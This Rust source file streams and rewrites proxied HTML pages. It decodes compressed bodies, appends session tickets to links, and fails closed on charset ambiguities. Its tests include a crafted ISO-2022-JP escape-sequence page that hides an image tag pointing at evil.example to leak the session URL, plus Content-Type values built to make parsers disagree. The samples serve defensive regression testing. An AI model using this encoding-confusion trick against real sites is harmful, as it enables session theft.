//! Streams an HTML response body through the rewriter in a task of its own:
//! compressed bodies (gzip, deflate, br) are decoded first; the output is
//! sent on as it comes, so memory stays flat whatever the page's size.

use std::sync::{Arc, Mutex};

use async_compression::tokio::bufread::{BrotliDecoder, GzipDecoder, ZlibDecoder};
use bytes::Bytes;
use futures_util::TryStreamExt;
use http::header::{self, HeaderMap};
use http_body_util::{BodyExt, StreamBody};
use hyper::body::Frame;
use tokio::io::{AsyncRead, AsyncReadExt};
use tokio::sync::mpsc;
use tokio_util::io::StreamReader;

use super::html;
use super::link::{Origin, Ticket};
use crate::body::ProxyBody;
use crate::error::BoxError;

/// How the body is encoded, as far as the rewriter can undo it.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Coding {
    /// No content coding.
    Identity,
    /// `gzip` (or `x-gzip`).
    Gzip,
    /// `deflate`: zlib-wrapped, as RFC 9110 §8.4.1.2 says.
    Deflate,
    /// `br`.
    Brotli,
}

impl Coding {
    /// The coding named by `Content-Encoding`; `None` for codings the
    /// rewriter cannot undo (the body then passes unrewritten).
    pub fn of(headers: &HeaderMap) -> Option<Coding> {
        let mut codings = headers
            .get_all(header::CONTENT_ENCODING)
            .iter()
            .flat_map(|v| v.to_str().unwrap_or("?").split(','))
            .map(|c| c.trim().to_ascii_lowercase())
            .filter(|c| !c.is_empty() && c != "identity");
        let first = codings.next();
        if codings.next().is_some() {
            return None;
        }
        match first.as_deref() {
            None => Some(Coding::Identity),
            Some("gzip" | "x-gzip") => Some(Coding::Gzip),
            Some("deflate") => Some(Coding::Deflate),
            Some("br") => Some(Coding::Brotli),
            Some(_) => None,
        }
    }
}

/// The `charset` a response's `Content-Type` names: `Ok(None)` for none,
/// `Err` where a browser and this reader could disagree about it.
///
/// A browser reads the parameters as WHATWG MIME Sniffing §4.4 says: split
/// at `;` outside quoted strings, a name up to `=` (`charset ` with a space
/// is another name), the first `charset` only. Review 18 had `charset =
/// utf-8`, a `;charset=` inside a quoted value and a second `charset` read
/// one way here and the other by Chromium, and a page through unrewritten
/// in ISO-2022-JP or UTF-16. So only the plain form is read: one
/// `charset=label` (the label may be quoted), no other quote, no
/// whitespace around its `=`; anything else is refused.
fn charset_label(headers: &HeaderMap) -> Result<Option<&str>, ()> {
    let Some(value) = headers.get(header::CONTENT_TYPE) else {
        return Ok(None);
    };
    let content_type = value.to_str().map_err(|_| ())?;
    let mut label = None;
    for param in content_type.split(';').skip(1) {
        let param = param.trim_start_matches([' ', '\t', '\r', '\n']);
        let (name, value) = param.split_once('=').unwrap_or((param, ""));
        let is_charset = name.trim().eq_ignore_ascii_case("charset");
        let plain_name = name.eq_ignore_ascii_case("charset");
        if is_charset && (!plain_name || label.is_some()) {
            return Err(());
        }
        if !is_charset {
            if param.contains('"') {
                return Err(());
            }
            continue;
        }
        let value = value.trim_end_matches([' ', '\t', '\r', '\n']);
        let unquoted = match value.strip_prefix('"') {
            Some(rest) => rest.strip_suffix('"').ok_or(())?,
            None => value,
        };
        if unquoted.is_empty()
            || unquoted.starts_with([' ', '\t'])
            || unquoted.contains(['"', '\\'])
        {
            return Err(());
        }
        label = Some(unquoted);
    }
    Ok(label)
}

/// The character set a page is rewritten in.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub struct Charset {
    pub encoding: &'static encoding_rs::Encoding,
    /// The response's `Content-Type` names it. When it does not, the
    /// browser picks (from a `<meta>`, or by guessing from the bytes).
    pub declared: bool,
}

/// The character set of a `text/html` response, if it can be rewritten.
pub fn charset(headers: &HeaderMap) -> Option<Charset> {
    let label = charset_label(headers).ok()?;
    match label {
        // Without a label, lol_html starts as UTF-8 and follows <meta charset>.
        None => Some(Charset {
            encoding: encoding_rs::UTF_8,
            declared: false,
        }),
        Some(label) => {
            let encoding = encoding_rs::Encoding::for_label(label.as_bytes())?;
            encoding.is_ascii_compatible().then_some(Charset {
                encoding,
                declared: true,
            })
        }
    }
}

/// `body` (encoded with `coding`) rewritten for `ticket`, decoded, as a new
/// streaming body. Callers drop `Content-Length` and `Content-Encoding`.
/// Where the browser picks the charset (`charset.declared` is false), the
/// page must not hold what could make it read ISO-2022-JP.
pub fn rewrite(
    body: ProxyBody,
    coding: Coding,
    charset: Charset,
    origin: Origin,
    ticket: Ticket,
) -> ProxyBody {
    let (tx, mut rx) = mpsc::channel::<Result<Frame<Bytes>, BoxError>>(4);
    tokio::spawn(async move {
        if let Err(error) = pump(body, coding, charset, origin, ticket, &tx).await {
            tracing::debug!(%error, "rewriting a page failed");
            let _ = tx.send(Err(error)).await;
        }
    });
    let stream = futures_util::stream::poll_fn(move |cx| rx.poll_recv(cx));
    BodyExt::boxed(StreamBody::new(stream))
}

async fn pump(
    body: ProxyBody,
    coding: Coding,
    charset: Charset,
    origin: Origin,
    ticket: Ticket,
    tx: &mpsc::Sender<Result<Frame<Bytes>, BoxError>>,
) -> Result<(), BoxError> {
    let raw = StreamReader::new(body.into_data_stream().map_err(std::io::Error::other));
    let mut input: Box<dyn AsyncRead + Send + Unpin> = match coding {
        Coding::Identity => Box::new(raw),
        Coding::Gzip => Box::new(GzipDecoder::new(raw)),
        Coding::Deflate => Box::new(ZlibDecoder::new(raw)),
        Coding::Brotli => Box::new(BrotliDecoder::new(raw)),
    };
    // The sink is synchronous; it fills a buffer that is sent after each write.
    let out = Arc::new(Mutex::new(Vec::<u8>::new()));
    let sink = out.clone();
    let mut rewriter = html::rewriter(origin, ticket, charset.encoding, move |chunk: &[u8]| {
        if let Ok(mut buf) = sink.lock() {
            buf.extend_from_slice(chunk);
        }
    })
    .ok_or("the page's charset cannot be rewritten")?;
    // The next buffer starts as large as the last one sent: a rewritten
    // chunk is about as long as the one before, and a buffer grown from
    // empty by lol_html's many small writes is copied at each doubling.
    let take = || -> Bytes {
        out.lock()
            .map(|mut buf| {
                let next = Vec::with_capacity(buf.len());
                Bytes::from(std::mem::replace(&mut *buf, next))
            })
            .unwrap_or_default()
    };
    let mut buf = vec![0u8; 32 * 1024];
    // A UTF-16 byte-order mark overrides every label (WHATWG Encoding
    // §6, "decode"): the browser would read a page this rewriter cannot.
    // Nothing of it is sent (fails closed).
    let mut head = Vec::with_capacity(2);
    loop {
        let n = input.read(&mut buf).await?;
        if n == 0 {
            break;
        }
        let mut data = &buf[..n];
        // ISO-2022-JP, which a page without a charset in its Content-Type
        // may declare in a <meta> (or a browser may guess), reads ASCII
        // until an escape sequence switches it to two-byte characters: then
        // a `<!--` the rewriter reads is two kanji to the browser, and what
        // it hides is markup (review 17). Without an ESC byte both read the
        // same markup; with one, nothing more is sent (fails closed).
        if !charset.declared && data.contains(&0x1B) {
            return Err("an escape byte in a page whose charset the browser picks (URL mode ends the page there)".into());
        }
        if head.len() < 2 {
            let take = (2 - head.len()).min(data.len());
            head.extend_from_slice(&data[..take]);
            data = &data[take..];
            if head.len() < 2 {
                continue;
            }
            if head == [0xFF, 0xFE] || head == [0xFE, 0xFF] {
                return Err("a UTF-16 page cannot be rewritten for URL mode".into());
            }
            rewriter.write(&head)?;
        }
        rewriter.write(data)?;
        let chunk = take();
        if !chunk.is_empty() && tx.send(Ok(Frame::data(chunk))).await.is_err() {
            // The client went away: stop reading the upstream.
            return Ok(());
        }
    }
    if head.len() < 2 {
        rewriter.write(&head)?;
    }
    rewriter.end()?;
    let chunk = take();
    if !chunk.is_empty() {
        let _ = tx.send(Ok(Frame::data(chunk))).await;
    }
    Ok(())
}

#[cfg(test)]
mod tests {
    use http::HeaderValue;

    use super::*;

    /// Headers with this `Content-Type`.
    fn content_type(ct: &'static str) -> HeaderMap {
        let mut h = HeaderMap::new();
        h.insert(header::CONTENT_TYPE, HeaderValue::from_static(ct));
        h
    }

    const UTF_8: Charset = Charset {
        encoding: encoding_rs::UTF_8,
        declared: true,
    };

    #[test]
    fn codings_and_charsets() {
        let mut h = HeaderMap::new();
        assert_eq!(Coding::of(&h), Some(Coding::Identity));
        h.insert(header::CONTENT_ENCODING, HeaderValue::from_static("GZIP"));
        assert_eq!(Coding::of(&h), Some(Coding::Gzip));
        h.insert(
            header::CONTENT_ENCODING,
            HeaderValue::from_static("gzip, br"),
        );
        assert_eq!(Coding::of(&h), None);
        h.insert(header::CONTENT_ENCODING, HeaderValue::from_static("zstd"));
        assert_eq!(Coding::of(&h), None);

        h.insert(
            header::CONTENT_TYPE,
            HeaderValue::from_static("text/html; charset=\"ISO-8859-1\""),
        );
        assert_eq!(
            charset(&h).map(|c| c.encoding),
            Some(encoding_rs::WINDOWS_1252)
        );
        h.insert(
            header::CONTENT_TYPE,
            HeaderValue::from_static("text/html;charset=utf-16"),
        );
        assert_eq!(charset(&h), None);
    }

    fn ticket() -> (Origin, Ticket) {
        let origin = Origin::new("http", "h:1", "/").unwrap();
        let ticket = Ticket {
            name: "SID".into(),
            id: "abc".into(),
        };
        (origin, ticket)
    }

    #[tokio::test]
    async fn compressed_pages_are_decoded_and_rewritten() {
        use async_compression::tokio::bufread::{BrotliEncoder, GzipEncoder, ZlibEncoder};
        let page = "<a href=\"/x\">x</a>".repeat(1000);
        let mut gzip = Vec::new();
        GzipEncoder::new(page.as_bytes())
            .read_to_end(&mut gzip)
            .await
            .unwrap();
        let mut deflate = Vec::new();
        ZlibEncoder::new(page.as_bytes())
            .read_to_end(&mut deflate)
            .await
            .unwrap();
        let mut br = Vec::new();
        BrotliEncoder::new(page.as_bytes())
            .read_to_end(&mut br)
            .await
            .unwrap();
        for (coding, encoded) in [
            (Coding::Identity, page.clone().into_bytes()),
            (Coding::Gzip, gzip),
            (Coding::Deflate, deflate),
            (Coding::Brotli, br),
        ] {
            let (origin, ticket) = ticket();
            let out = rewrite(crate::body::full(encoded), coding, UTF_8, origin, ticket);
            let bytes = out.collect().await.unwrap().to_bytes();
            assert_eq!(
                bytes,
                "<a href=\"http://h:1/x?SID=abc\">x</a>".repeat(1000),
                "{coding:?}"
            );
        }
    }

    #[tokio::test]
    async fn a_corrupt_compressed_body_ends_in_an_error_not_a_panic() {
        let (origin, ticket) = ticket();
        let body = crate::body::full(&b"not gzip at all"[..]);
        let out = rewrite(body, Coding::Gzip, UTF_8, origin, ticket);
        assert!(out.collect().await.is_err());
    }

    /// Review 17: with no charset in the Content-Type, a `<meta
    /// charset=iso-2022-jp>` has the browser read `ESC $ B <!-- ESC ( B`
    /// as two kanji, and what the rewriter reads as a comment is markup.
    #[tokio::test]
    async fn an_escape_byte_ends_a_page_whose_charset_the_browser_picks() {
        let page = "<p>before</p><meta charset=iso-2022-jp>\x1b$B<!--\x1b(B\
                    <img referrerpolicy=unsafe-url src=http://evil.example/>-->";
        for (declared, cut) in [(false, true), (true, false)] {
            let (origin, ticket) = ticket();
            let body = crate::body::full(page.to_owned());
            let out = rewrite(
                body,
                Coding::Identity,
                Charset {
                    encoding: encoding_rs::UTF_8,
                    declared,
                },
                origin,
                ticket,
            );
            let mut out = std::pin::pin!(out);
            let mut got = Vec::new();
            let mut failed = false;
            while let Some(frame) = out.frame().await {
                match frame {
                    Ok(frame) => got.extend_from_slice(frame.data_ref().map_or(&[][..], |d| d)),
                    Err(_) => failed = true,
                }
            }
            let got = String::from_utf8_lossy(&got);
            assert_eq!(failed, cut, "{got}");
            assert_eq!(got.contains("evil"), !cut, "{got}");
        }
        let declared = |ct| charset(&content_type(ct)).map(|c| c.declared);
        assert_eq!(declared("text/html"), Some(false));
        assert_eq!(declared("text/html; charset=utf-8"), Some(true));
    }

    /// Review 18: a `Content-Type` a browser reads differently (no
    /// charset, or another one) is refused, never guessed.
    #[test]
    fn a_charset_written_so_that_readers_may_disagree_is_refused() {
        let of = |ct| charset(&content_type(ct)).map(|c| c.encoding);
        for odd in [
            "text/html; charset = utf-8",
            "text/html; charset =utf-8",
            "text/html; charset\t= utf-8",
            "text/html; charset= utf-8",
            "text/html; x=\"1\"; charset =utf-8",
            "text/html; foo=\"a;charset=utf-8\"",
            "text/html; x=\"a;charset=utf-8\"; charset=iso-2022-jp",
            "text/html; charset=\"utf-8;charset=iso-2022-jp\"",
            "text/html; charset = utf-8; charset=iso-2022-jp",
            "text/html; charset=utf-8 ; charset=iso-2022-jp",
            "text/html; charset=utf-8; charset=utf-8",
            "text/html; charset=\"utf-8",
            "text/html; charset=",
        ] {
            assert_eq!(of(odd), None, "{odd}");
        }
        for (plain, encoding) in [
            ("text/html; charset=utf-8", encoding_rs::UTF_8),
            ("text/html;charset=UTF-8", encoding_rs::UTF_8),
            (
                "text/html ; Charset=\"iso-8859-1\"",
                encoding_rs::WINDOWS_1252,
            ),
            ("text/html; q=1; charset=utf-8 ", encoding_rs::UTF_8),
            ("text/html", encoding_rs::UTF_8),
        ] {
            assert_eq!(of(plain), Some(encoding), "{plain}");
        }
    }
}
